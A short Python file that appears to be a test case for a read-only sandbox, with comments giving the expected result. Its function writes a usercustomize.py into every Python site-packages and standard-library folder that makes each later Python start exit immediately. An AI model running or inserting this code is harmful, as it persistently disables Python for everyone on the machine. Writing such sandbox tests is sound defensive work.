# Plants a file that every later start of Python would run.
# verdict: raised
# says: Read-only
import os
import site


def run_all(jobs):
    problems = []
    for folder in [*site.getsitepackages(), os.path.dirname(os.__file__), site.getusersitepackages()]:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "usercustomize.py"), "w") as file:
                file.write("import os; os._exit(0)\n")
        except OSError as problem:
            problems.append(problem)
    raise problems[0]
